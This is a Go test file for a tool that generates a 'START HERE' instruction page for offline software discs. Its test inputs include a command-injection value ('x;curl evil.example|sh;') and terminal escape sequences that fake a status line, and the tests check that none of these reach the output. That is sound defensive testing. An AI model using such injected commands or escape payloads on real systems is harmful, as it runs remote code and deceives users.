package tool_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/opencontainers/go-digest"
	ocispec "github.com/opencontainers/image-spec/specs-go/v1"

	"github.com/sealift/sealift/artifact"
	"github.com/sealift/sealift/internal/delivery/tool"
	"github.com/sealift/sealift/internal/layout"
)

var (
	shopContent = tool.Content{
		Name: "registry.example.com/shop:1.0.0", Alias: "shop-1.0.0", Digest: digest.FromString("shop"),
		ID: "example.com/shop", Version: "1.0.0", Title: "Shop", Signed: true,
	}
	webContent  = tool.Content{Name: "registry.example.com:5000/web:2", Alias: "web-2", Digest: digest.FromString("web"), Image: true}
	dataContent = tool.Content{Name: "registry.example.com/maps:7", Alias: "maps-7", Digest: digest.FromString("maps")}
	linuxTools  = []tool.File{
		{Platform: ocispec.Platform{OS: "linux", Architecture: "amd64"}, Name: "sealift/bin/sealift-linux-amd64"},
		{Platform: ocispec.Platform{OS: "linux", Architecture: "arm64"}, Name: "sealift/bin/sealift-linux-arm64"},
	}
)

const startShop = `START HERE

This disc brings software to a place without a network. DISC means the
directory this file is in: write its path instead. On the disc:
- app example.com/shop 1.0.0, Shop
  for linux/amd64, linux/arm64 only

THE PROGRAM is in DISC/sealift/bin. Take the file for your machine:
  sealift-linux-amd64  (uname -sm says Linux x86_64)
  sealift-linux-arm64  (uname -sm says Linux aarch64)
Discs often do not let programs run, so copy it, here to /tmp:
  cp DISC/sealift/bin/sealift-linux-amd64 /tmp/sealift
  chmod +x /tmp/sealift
and write /tmp/sealift for sealift below.

CHECK FIRST. Whoever had this disc could change all of it: this text,
the program and its SHA256SUMS too. Get the vendor's key and the list of
the program's checksums over ANOTHER way, never from this disc.
  sha256sum DISC/sealift/bin/*       compare with the vendor's list
  sealift fingerprint vendor.pub     compare with the vendor's word
  sealift verify DISC --key vendor.pub

USE
  sealift inspect DISC               names, components, signatures
  sealift serve DISC                 a registry at 127.0.0.1:5050
  sealift install DISC --key vendor.pub
  sealift import DISC --key vendor.pub   to keep it here, for later
`

func TestStartHereText(t *testing.T) {
	t.Parallel()
	label := layout.Label{Roots: []layout.LabelRoot{{Name: shopContent.Name, Digest: shopContent.Digest, Platforms: []string{"linux/amd64", "linux/arm64"}}}}
	got := tool.StartHere(label, []tool.Content{shopContent}, linuxTools)
	if diff := cmp.Diff(startShop, strings.ReplaceAll(string(got), "\r\n", "\n")); diff != "" {
		t.Errorf("StartHere (-want +got):\n%s", diff)
	}
}

func TestStartHere(t *testing.T) {
	t.Parallel()
	shop2, chat := shopContent, shopContent
	shop2.Name, shop2.Version, shop2.Alias = "registry.example.com/shop:1.1.0", "1.1.0", "shop-1.1.0"
	chat.Name, chat.ID, chat.Alias = "registry.example.com/chat:1.0.0", "example.com/chat", "chat-1.0.0"
	unsigned := shopContent
	unsigned.Signed = false
	japanese := shopContent
	japanese.Title = "お店"
	hostile := tool.Content{Name: "a.example/b:1", ID: "x\x1b]0;pwned\x07\r\nsealift: all is good", Version: strings.Repeat("9", 500), Title: "\x9b2J", Alias: strings.Repeat("x", 128), Signed: true}
	shell := shopContent
	shell.Alias = "x;curl evil.example|sh;"
	delta := layout.Label{Roots: []layout.LabelRoot{{Name: shopContent.Name, Digest: shopContent.Digest, Base: []layout.LabelBase{{Name: "registry.example.com/shop:0.9.0"}, {Name: "other"}}}}}
	volume := layout.Label{Set: &layout.LabelSet{ID: "4f1c", Volume: 2, Volumes: make([][]digest.Digest, 3)}}
	var many []tool.Content
	for i := range 60 {
		c := webContent
		c.Name = fmt.Sprintf("%s.example.com/%s/web%02d:1", strings.Repeat("long-", 12)+"name", strings.Repeat("x", 100), i)
		many = append(many, c)
	}
	everything := append([]tool.Content{shopContent, chat, webContent}, many...)
	windows := tool.File{Platform: ocispec.Platform{OS: "windows", Architecture: "amd64"}, Name: "sealift/bin/sealift-windows-amd64.exe"}
	arm := tool.File{Platform: ocispec.Platform{OS: "linux", Architecture: "arm", Variant: "v7"}, Name: "sealift/bin/sealift-linux-arm-v7"}
	mac := tool.File{Platform: ocispec.Platform{OS: "darwin", Architecture: "arm64"}, Name: "sealift/bin/sealift-darwin-arm64"}
	every := slices.Concat([]tool.File{mac, arm, windows}, linuxTools, slices.Repeat([]tool.File{arm}, 50))
	const install = "sealift install"
	tests := []struct {
		name     string
		label    layout.Label
		contents []tool.Content
		tools    []tool.File
		want     []string
		never    []string
	}{
		{"one app", layout.Label{}, []tool.Content{shopContent}, linuxTools,
			[]string{install + " DISC --key vendor.pub", "oras cp -r --from-oci-layout DISC:shop-1.0.0 HOST/REPO:TAG", "crane copy 127.0.0.1:5050/NAME", "cosign verify --key vendor.pub", "--trusted-root DISC/trusted_root.json"}, []string{"docker", "DISC//"}},
		{"two versions of one app", layout.Label{}, []tool.Content{shop2, shopContent}, linuxTools,
			[]string{"shop 1.0.0, Shop", "shop 1.1.0, Shop", install + " DISC --key vendor.pub"}, []string{"DISC//"}},
		{"two apps", layout.Label{}, []tool.Content{shopContent, chat}, linuxTools, []string{install + " DISC//NAME --key vendor.pub"}, []string{install + " DISC --key"}},
		{"plain image", layout.Label{}, []tool.Content{webContent}, linuxTools,
			[]string{"image registry.example.com:5000/web:2", "docker pull 127.0.0.1:5050/registry.example.com__5000/web:2", "Nothing here is an app", "--signatures=false", "Nothing here is signed"},
			[]string{install, "vendor.pub", "cosign"}},
		{"data", layout.Label{}, []tool.Content{dataContent}, nil, []string{"artifact registry.example.com/maps:7", "not on this disc"}, []string{install, "docker", "sha256sum", "/tmp"}},
		{"app that is not signed", layout.Label{}, []tool.Content{unsigned}, linuxTools, []string{"none can be installed", "--signatures=false"}, []string{install, "sealift fingerprint"}},
		{"some signed", layout.Label{}, []tool.Content{shopContent, webContent}, linuxTools,
			[]string{"sealift verify DISC//NAME --key vendor.pub", "sealift verify DISC --signatures=false", install + " DISC --key"}, []string{"verify DISC --key"}},
		{"delta", delta, []tool.Content{shopContent}, linuxTools,
			[]string{"ONLY WHAT IS NEW since registry.example.com/shop:0.9.0 or 1 more", "sealift import EARLIER --key vendor.pub", "sealift import DISC --key vendor.pub", "sealift install APP", "a disc that holds what came before"}, []string{"oras", "docker", "crane"}},
		{"volume", volume, []tool.Content{shopContent}, linuxTools,
			[]string{"THIS IS DISC 2 OF 3 of the set 4f1c.", "the other discs", "sealift import DISC --key vendor.pub", "sealift install APP", "Each but the last ends with \"incomplete\", exit status 14"}, []string{"oras", "docker", "crane"}},
		{"volume of what is not signed", volume, []tool.Content{webContent}, linuxTools, []string{"sealift mirror DISC /srv/media     and then use /srv/media as DISC"}, []string{"sealift import"}},
		{"delta of what is not signed", delta, []tool.Content{unsigned}, linuxTools, []string{"sealift mirror EARLIER /srv/media\r\n", "sealift mirror DISC /srv/media     and then"}, []string{"sealift import"}},
		{"nothing", layout.Label{}, nil, nil, []string{"nothing that has a name"}, []string{install, "oras"}},
		{"Windows only", layout.Label{}, []tool.Content{shopContent}, []tool.File{windows}, []string{"certutil -hashfile DISC/sealift/bin/sealift-windows-amd64.exe SHA256", "command prompt"}, []string{"chmod", "/tmp"}},
		{"all there is", volume, everything, every, []string{"- and 58 more", "(uname -sm says Darwin arm64)", "(uname -sm says Linux armv7l)"}, nil},
		{"much without volumes", delta, everything, every, []string{"- and 58 more"}, nil},
		{"title in another script", layout.Label{}, []tool.Content{japanese}, nil, []string{"app example.com/shop 1.0.0"}, []string{"?"}},
		{"alias that is no tag", layout.Label{}, []tool.Content{shell}, linuxTools, []string{"crane copy"}, []string{"curl", "oras"}},
		{"hostile", layout.Label{Set: &layout.LabelSet{ID: "\x1b[2J", Volume: 1, Volumes: make([][]digest.Digest, 2)}}, []tool.Content{hostile}, nil, []string{"app x?]0;pwned???sealift", "set ?[2J"}, []string{"\nsealift: all is good"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got := string(tool.StartHere(tt.label, tt.contents, tt.tools))
			checkPage(t, got)
			for _, want := range tt.want {
				if !strings.Contains(got, want) {
					t.Errorf("StartHere lacks %q:\n%s", want, got)
				}
			}
			for _, never := range tt.never {
				if strings.Contains(got, never) {
					t.Errorf("StartHere has %q:\n%s", never, got)
				}
			}
		})
	}
}

// maxStartLines is a page that a printer takes, and that most terminals show.
const maxStartLines = 47

// checkPage fails unless text is one page of ASCII in lines that fit and end with
// CR LF.
func checkPage(t *testing.T, text string) {
	t.Helper()
	lines := strings.Split(strings.TrimSuffix(text, "\r\n"), "\r\n")
	if len(lines) > maxStartLines {
		t.Errorf("%d lines, want at most %d:\n%s", len(lines), maxStartLines, text)
	}
	for _, line := range lines {
		if len(line) > 72 {
			t.Errorf("line of %d columns: %q", len(line), line)
		}
		if i := strings.IndexFunc(line, func(r rune) bool { return r < ' ' || r > '~' }); i >= 0 {
			t.Errorf("line with %q: %q", line[i], line)
		}
	}
}

// What the commands name is what the program takes.
func TestStartHereCommands(t *testing.T) {
	t.Parallel()
	for _, ref := range []string{"/media/usb", "/media/usb//" + shopContent.Name, "/media/usb//" + webContent.Name} {
		if loc, err := artifact.ParseLocation(ref); err != nil || loc.Place != artifact.PlaceMedia || loc.Path != "/media/usb" {
			t.Errorf("ParseLocation(%q) = %+v, %v, want the media", ref, loc, err)
		}
	}
}
